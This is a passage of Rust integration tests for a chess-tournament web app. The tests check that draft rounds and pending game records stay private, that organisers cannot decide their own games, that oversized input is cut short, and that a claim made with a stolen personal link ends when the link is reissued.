    // The organiser pairs round 2 (with a bye: five players) and gives it a start time, but
    // does not publish it.
    let organiser = app.browser();
    organiser.log_in("org@example.ao", "a-long-password").await;
    assert_eq!(
        organiser
            .post_form(&format!("/events/{slug}/rounds"), &[])
            .await
            .status,
        303
    );
    let start = organiser
        .post_form(
            &format!("/events/{slug}/rounds/2/start"),
            &[("starts_at", "2026-12-05T09:30")],
        )
        .await;
    assert_eq!(start.status, 303);
    assert!(
        organiser
            .get(&format!("/events/{slug}/rounds/2"))
            .await
            .body
            .contains("rascunho")
    );
    for (path, earlier) in exports.iter().zip(&before) {
        let now = public.get(path).await.body;
        assert_eq!(&now, earlier, "{path} shows the draft");
    }
    assert_eq!(
        public
            .get(&format!("/api/v1/events/{event}/rounds/2"))
            .await
            .status,
        404
    );
    assert_eq!(
        public.get(&format!("/events/{slug}/rounds/2")).await.status,
        404
    );
    let shown = public.get(&format!("/api/v1/events/{event}")).await.json();
    assert_eq!(shown["rounds_paired"], 1);
    let cross = public.get(&format!("/events/{slug}/crosstable")).await;
    assert!(!cross.body.contains("rounds/2"), "{}", cross.body);
}

async fn a_pending_record_is_for_the_games_parties(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let ana_token = account_with_token(app, "ana@example.ao", "Ana", "player");
    let bento_token = account_with_token(app, "bento@example.ao", "Bento", "player");
    let other = account_with_token(app, "other@example.ao", "Other", "player");
    let created = client
        .api(
            "POST",
            "/api/v1/events",
            Some(&org),
            Some(json!({"name": "Segredo", "rounds": 1})),
        )
        .await
        .json();
    let event = created["id"].as_i64().unwrap();
    let ana = add_player(&client, &org, event, json!({"name": "Ana", "rating": 2000})).await;
    let bento = add_player(
        &client,
        &org,
        event,
        json!({"name": "Bento", "rating": 1900}),
    )
    .await;
    link_account(&client, &org, event, ana, "ana@example.ao").await;
    link_account(&client, &org, event, bento, "bento@example.ao").await;
    let round = pair_round(&client, &org, event).await;
    let game = game_of(&round, ana);
    let text = record(7);
    let sent = client
        .api_text(&format!("/api/v1/games/{game}/record"), &ana_token, &text)
        .await;
    assert_eq!(sent.json()["status"], "pending");
    let path = format!("/api/v1/games/{game}");
    for (who, token) in [("public", None), ("another player", Some(other.as_str()))] {
        let shown = client.api("GET", &path, token, None).await.json();
        assert_eq!(shown["status"], "pending");
        assert!(
            shown["pending"]["record"].is_null() && shown["record"].is_null(),
            "{who}: {shown}"
        );
        assert!(!shown.to_string().contains(text.lines().last().unwrap()));
    }
    for token in [&ana_token, &bento_token, &org] {
        let shown = client.api("GET", &path, Some(token), None).await.json();
        assert_eq!(shown["pending"]["record"], text.as_str());
    }
    client
        .api(
            "POST",
            &format!("/api/v1/games/{game}/confirm"),
            Some(&bento_token),
            None,
        )
        .await;
    let shown = client.api("GET", &path, None, None).await.json();
    assert_eq!(shown["status"], "final");
    assert_eq!(shown["record"], text.as_str());
}

async fn head_answers_like_get_without_a_body(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let (event, slug) = event_with_players(
        &client,
        &org,
        json!({"name": "Cabeça", "rounds": 1}),
        &["Ana", "Bento"],
    )
    .await;
    for path in [
        "/".to_string(),
        "/healthz".to_string(),
        "/events".to_string(),
        format!("/events/{slug}"),
        format!("/events/{slug}/standings"),
        format!("/events/{slug}/standings.csv"),
        format!("/api/v1/events/{event}"),
    ] {
        let get = client.get(&path).await;
        let head = client.request("HEAD", &path, &[], Vec::new()).await;
        assert_eq!(head.status, 200, "{path}");
        assert_eq!(get.status, 200, "{path}");
        assert!(head.body.is_empty(), "{path}");
        assert_eq!(
            head.header("content-type"),
            get.header("content-type"),
            "{path}"
        );
    }
    assert_eq!(
        client
            .request("HEAD", "/nowhere", &[], Vec::new())
            .await
            .status,
        404
    );
}

both_backends!(
    an_address_never_makes_anyone_a_player,
    the_holder_of_a_personal_link_says_this_is_me,
    a_reissued_link_replaces_the_old_one_at_once,
    staff_never_decide_their_own_game,
    the_last_administrator_keeps_the_role,
    a_password_change_can_revoke_every_token,
    simultaneous_wrong_passwords_check_no_more_than_the_limit,
    made_up_query_strings_do_not_make_new_pages,
    simultaneous_additions_get_numbers_and_slugs_of_their_own,
    spreadsheets_never_run_a_name,
    control_characters_never_get_in,
    a_draft_round_is_nowhere_public,
    a_pending_record_is_for_the_games_parties,
    head_answers_like_get_without_a_body,
);
both_backends_with!(sign_ups_are_limited_per_address, |c| c
    .signup_limit_per_ip =
    3);
both_backends_with!(
    the_client_address_is_the_right_most_one_the_proxy_saw,
    |c| {
        c.trust_proxy = true;
        c.login_limit_per_ip = 3;
    }
);
both_backends_with!(a_guesser_does_not_lock_the_owner_out, |c| {
    c.trust_proxy = true;
});
both_backends_with!(junk_records_are_kept_short_and_limited, |c| c
    .submission_limit_per_game =
    3);
both_backends_with!(a_trickled_body_is_cut_off, |c| c.body_timeout_secs = 1);

mod links {
    use super::links_are_built_from_the_configured_address_or_the_host as check;
    use crate::harness::{Backend, TestApp};

    async fn run(backend: Backend, adjust: fn(&mut kiela::config::Config)) {
        if let Some(app) = TestApp::spawn_with(backend, adjust).await {
            check(&app).await;
            app.stop().await;
        }
    }

    #[actix_web::test]
    async fn from_the_host_only_when_no_proxy_is_trusted() {
        run(Backend::Sqlite, |_| {}).await;
        run(Backend::Postgres, |_| {}).await;
    }

    #[actix_web::test]
    async fn from_the_proxy_when_trusted() {
        run(Backend::Sqlite, |c| c.trust_proxy = true).await;
        run(Backend::Postgres, |c| c.trust_proxy = true).await;
    }

    #[actix_web::test]
    async fn from_the_configured_address_when_set() {
        run(Backend::Sqlite, |c| {
            c.base_url = Some("https://kiela.ao".into());
        })
        .await;
        run(Backend::Postgres, |c| {
            c.base_url = Some("https://kiela.ao".into());
        })
        .await;
    }
}

async fn nobody_works_around_the_own_game_rule(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let created = client
        .api(
            "POST",
            "/api/v1/events",
            Some(&org),
            Some(json!({"name": "Atalhos", "rounds": 1})),
        )
        .await
        .json();
    let event = created["id"].as_i64().unwrap();
    let own = add_player(
        &client,
        &org,
        event,
        json!({"name": "Org", "rating": 2000, "email": "org@example.ao"}),
    )
    .await;
    let rival = add_player(
        &client,
        &org,
        event,
        json!({"name": "Rival", "rating": 1900}),
    )
    .await;
    let organiser = app.browser();
    organiser.log_in("org@example.ao", "a-long-password").await;
    // Her own entry's binding is another organiser's to change.
    let relinked = client
        .api(
            "PUT",
            &format!("/api/v1/events/{event}/players/{own}/account"),
            Some(&org),
            Some(json!({"email": "org@example.ao"})),
        )
        .await;
    assert_eq!(relinked.status, 403, "{}", relinked.body);
    assert_eq!(relinked.json()["error"]["code"], "own_entry");
    let round = pair_round(&client, &org, event).await;
    let game = game_of(&round, own);
    // She holds every personal link, but signed in she cannot act as her own opponent.
    let rival_link = personal_path(&client, &org, event, rival).await;
    let own_link = personal_path(&client, &org, event, own).await;
    let sent = organiser
        .post_form(
            &format!("{own_link}/games/{game}/record"),
            &[("record", &record(9))],
        )
        .await;
    assert_eq!(sent.status, 303, "her own link works for her own side");
    let confirmed = organiser
        .post_form(&format!("{rival_link}/games/{game}/confirm"), &[])
        .await;
    assert_eq!(confirmed.status, 403, "{}", confirmed.body);
    let page = organiser.get(&format!("{rival_link}/games/{game}")).await;
    assert_eq!(page.status, 403);
    let shown = client
        .api("GET", &format!("/api/v1/games/{game}"), None, None)
        .await
        .json();
    assert_eq!(shown["status"], "pending");
}

async fn two_claims_of_one_entry_bind_it_once(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let (event, _) = event_with_players(
        &client,
        &org,
        json!({"name": "Dupla", "rounds": 1}),
        &["Ana", "Bento"],
    )
    .await;
    let players = client
        .api(
            "GET",
            &format!("/api/v1/events/{event}/players"),
            Some(&org),
            None,
        )
        .await
        .json();
    let ana = players["players"][0]["id"].as_i64().unwrap();
    let link = personal_path(&client, &org, event, ana).await;
    let claimants: Vec<Browser<'_>> = (0..6).map(|_| app.browser()).collect();
    for (i, b) in claimants.iter().enumerate() {
        b.sign_up("Claimant", &format!("c{i}@example.ao"), PASSWORD)
            .await;
    }
    let path = format!("{link}/claim");
    let answers =
        futures_util::future::join_all(claimants.iter().map(|b| b.post_form(&path, &[]))).await;
    let mut statuses: Vec<u16> = answers.iter().map(|r| r.status).collect();
    statuses.sort_unstable();
    assert_eq!(statuses, [303, 409, 409, 409, 409, 409]);
    let access = kiela::service::access::access(
        &app.app,
        kiela::service::access::EventRef::Id(kiela::domain::EventId(event as i32)),
        Some(
            &kiela::service::accounts::user_by_email(&app.app, "org@example.ao")
                .unwrap()
                .unwrap(),
        ),
    )
    .unwrap();
    let claims = kiela::service::event_log::event_log(&app.app, &access)
        .unwrap()
        .into_iter()
        .filter(|e| e.action == kiela::domain::AuditAction::PlayerClaimed)
        .count();
    assert_eq!(claims, 1);
}

async fn what_a_refused_record_quotes_is_cut_short(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let (event, _) = event_with_players(
        &client,
        &org,
        json!({"name": "Etiqueta", "rounds": 1}),
        &["Ana", "Bento"],
    )
    .await;
    let round = pair_round(&client, &org, event).await;
    let game = round["pairings"][0]["game_id"].as_i64().unwrap();
    let text = format!("[South \"{}\"]\n{}", "Z".repeat(500_000), record(2));
    let refused = client
        .api_text(&format!("/api/v1/games/{game}/record"), &org, &text)
        .await;
    assert_eq!(
        refused.status,
        422,
        "{}",
        &refused.body[..200.min(refused.body.len())]
    );
    assert!(refused.body.len() < 2_000, "the answer quotes a short name");
    let mut conn = app.app.conn().unwrap();
    let log =
        kiela::db::events::audit_of_game(&mut conn, kiela::domain::GameId(game as i32)).unwrap();
    assert!(!log.is_empty());
    assert!(
        log.iter()
            .all(|e| e.detail.chars().count() <= kiela::service::audit::MAX_DETAIL_CHARS + 1)
    );
}

both_backends!(
    nobody_works_around_the_own_game_rule,
    two_claims_of_one_entry_bind_it_once,
    what_a_refused_record_quotes_is_cut_short,
);

/// An event with self-registration whose organiser is `token`'s; its id and slug.
async fn open_for_registration(client: &Browser<'_>, token: &str, name: &str) -> (i64, String) {
    let created = client
        .api(
            "POST",
            "/api/v1/events",
            Some(token),
            Some(json!({"name": name, "rounds": 3, "rated": true, "self_registration": true})),
        )
        .await
        .json();
    (
        created["id"].as_i64().unwrap(),
        created["slug"].as_str().unwrap().to_string(),
    )
}

/// An entry as its organiser sees it through the API.
async fn entry(client: &Browser<'_>, token: &str, event: i64, player: i64) -> Value {
    client
        .api(
            "GET",
            &format!("/api/v1/events/{event}/players/{player}"),
            Some(token),
            None,
        )
        .await
        .json()
}

/// A photographed slip: an impostor claims the victim's entry with its personal link. The
/// reissued link ends that claim (the organiser's default for a claim made through the link),
/// the impostor no longer acts for the entry, and their account was never bound to the
/// victim's registered person, so a later self-registration of theirs is not entered under the
/// victim's federation id. A claim the organiser confirms binds the person; a registration
/// from an account bound to someone of another name waits for the organiser with the warning.
async fn a_claim_made_with_a_stolen_link_ends_with_the_reissue(app: &TestApp) {
    let client = app.browser();
    let org = account_with_token(app, "org@example.ao", "Org", "organiser");
    let thief_token = account_with_token(app, "thief@example.ao", "Tiago Ladrão", "player");
    let (event, _) = event_with_players(
        &client,
        &org,
        json!({"name": "Apuramento", "rounds": 1, "rated": true}),
        &["Ana Kiala", "Bento Lunda"],
    )
    .await;
    let players = client
        .api(
            "GET",
            &format!("/api/v1/events/{event}/players"),
            Some(&org),
            None,
        )
        .await
        .json();
    let ana = players["players"][0]["id"].as_i64().unwrap();
    let victim_id = players["players"][0]["federation_id"]
        .as_str()
        .unwrap()
        .to_string();
    let slip = personal_path(&client, &org, event, ana).await;
    let thief = app.browser();
    thief.log_in("thief@example.ao", "a-long-password").await;
    assert_eq!(
        thief.post_form(&format!("{slip}/claim"), &[]).await.status,
        303
    );
    let claimed = entry(&client, &org, event, ana).await;
    assert_eq!(claimed["account_via"], "link", "{claimed}");
    // The impostor acts for the entry through the API while the claim stands.
    let round = pair_round(&client, &org, event).await;
    let game = game_of(&round, ana);
    let mine = thief
        .api("GET", "/api/v1/me/games", Some(&thief_token), None)
        .await
        .json();
    assert!(
        mine.to_string().contains(&format!("\"game_id\":{game}")),
        "{mine}"
    );

    // The organiser reissues the link: the claim made through the old one ends.
    let reissued = client
        .api(
            "POST",
            &format!("/api/v1/events/{event}/players/{ana}/link"),
            Some(&org),
            None,
        )
        .await;
    assert_eq!(reissued.status, 200, "{}", reissued.body);
    let after = entry(&client, &org, event, ana).await;
    assert!(
        after["user_id"].is_null() && after.get("account_via").is_none(),
        "{after}"
    );
    let record = record(7);
    let refused = thief
        .api_text(
            &format!("/api/v1/games/{game}/record"),
            &thief_token,
            &record,
        )
        .await;
    assert_eq!(refused.status, 403, "{}", refused.body);
    let mine = thief
        .api("GET", "/api/v1/me/games", Some(&thief_token), None)
        .await
        .json();
    assert!(
        !mine.to_string().contains(&format!("\"game_id\":{game}")),
        "{mine}"
    );
    let access = kiela::service::access::access(
        &app.app,
        kiela::service::access::EventRef::Id(kiela::domain::EventId(event as i32)),
        Some(
            &kiela::service::accounts::user_by_email(&app.app, "org@example.ao")
                .unwrap()
                .unwrap(),
        ),
    )
    .unwrap();
    let log = kiela::service::event_log::event_log(&app.app, &access).unwrap();
    let actions: Vec<_> = log.iter().map(|e| e.action).collect();
    assert!(actions.contains(&kiela::domain::AuditAction::LinkReissued));
    assert!(actions.contains(&kiela::domain::AuditAction::PlayerUnlinked));
    let reissue = log
        .iter()
        .find(|e| e.action == kiela::domain::AuditAction::LinkReissued)
        .unwrap();
    assert!(
        matches!(
            &reissue.detail,
            kiela::service::audit::Said::Detail(kiela::service::audit::Detail::Reissued {
                account: Some(kiela::domain::ClaimOnReissue::End),
                ..
            })
        ),
        "{:?}",
        reissue.detail
    );

    // The impostor registers for the next rated event: a new person, not the victim.
    let (next, next_slug) = open_for_registration(&client, &org, "Final").await;
    let done = thief
        .post_form(
            &format!("/events/{next_slug}/register"),
            &[("club", "Petro"), ("province", "Luanda")],
        )
        .await;
    assert_eq!(done.status, 303, "{}", done.body);
    let listed = client
        .api(
            "GET",
            &format!("/api/v1/events/{next}/players"),
            Some(&org),
            None,
        )
        .await
        .json();
    let registered = &listed["players"][0];
    assert_eq!(registered["name"], "Tiago Ladrão");
    assert_ne!(registered["federation_id"], victim_id.as_str(), "{listed}");

    // The organiser may keep a claim on reissue, and confirms one by linking the account.
    account_with_token(app, "ana@example.ao", "Ana Kiala", "player");
    let owner = app.browser();
    owner.log_in("ana@example.ao", "a-long-password").await;
    let slip = personal_path(&client, &org, event, ana).await;
    assert_eq!(
        owner.post_form(&format!("{slip}/claim"), &[]).await.status,
        303
    );
    let kept = client
        .api(
            "POST",
            &format!("/api/v1/events/{event}/players/{ana}/link"),
            Some(&org),
            Some(json!({"claim": "keep"})),
        )
        .await;
    assert_eq!(kept.status, 200, "{}", kept.body);
    assert_eq!(
        entry(&client, &org, event, ana).await["account_via"],
        "link"
    );
    let bad = client
        .api(
            "POST",
            &format!("/api/v1/events/{event}/players/{ana}/link"),
            Some(&org),
            Some(json!({"claim": "maybe"})),
        )
        .await;
    assert_eq!(bad.status, 400, "{}", bad.body);
    crate::harness::link_account(&client, &org, event, ana, "ana@example.ao").await;
    assert_eq!(
        entry(&client, &org, event, ana).await["account_via"],
        "organiser"
    );
    // Confirmed, the person is the account's: her registration elsewhere carries her id.
    let (third, third_slug) = open_for_registration(&client, &org, "Torneio de Abril").await;
    assert_eq!(
        owner
            .post_form(
                &format!("/events/{third_slug}/register"),
                &[("club", "Petro"), ("province", "Luanda")],
            )
            .await
            .status,
        303
    );
    let listed = client
        .api(
            "GET",
            &format!("/api/v1/events/{third}/players"),
            Some(&org),
            None,
        )
        .await
        .json();
    assert_eq!(listed["players"][0]["federation_id"], victim_id.as_str());

    // An organiser linked an entry to an account of another name (a mistake): that account's
    // registration is not entered under the entry's person, and the organiser is told.
    kiela::service::accounts::create_user(
        &app.app,
        "carlos@example.ao",
        "Carlos Muxima",
        "player".parse().unwrap(),
        "a-long-password",
    )
    .unwrap();
    let bento = players["players"][1]["id"].as_i64().unwrap();
    let bento_id = players["players"][1]["federation_id"]
        .as_str()
        .unwrap()
        .to_string();
    crate::harness::link_account(&client, &org, event, bento, "carlos@example.ao").await;
    let carlos = app.browser();
    carlos.log_in("carlos@example.ao", "a-long-password").await;
    let (fourth, fourth_slug) = open_for_registration(&client, &org, "Torneio de Maio").await;
    assert_eq!(
        carlos
            .post_form(
                &format!("/events/{fourth_slug}/register"),
                &[("club", "Petro"), ("province", "Luanda")],
            )
            .await
            .status,
        303
    );
    let listed = client
        .api(
            "GET",
            &format!("/api/v1/events/{fourth}/players"),
            Some(&org),
            None,
        )
        .await
        .json();
    assert_eq!(listed["players"][0]["name"], "Carlos Muxima");
    assert_ne!(listed["players"][0]["federation_id"], bento_id.as_str());
    let manage = app.browser();
    manage.log_in("org@example.ao", "a-long-password").await;
    let page = manage
        .get(&format!("/events/{fourth_slug}/manage?lang=en"))
        .await;
    assert!(
        page.body
            .contains(&format!("the account is bound to Bento Lunda ({bento_id})")),
        "{}",
        page.body
    );
}

both_backends!(a_claim_made_with_a_stolen_link_ends_with_the_reissue);
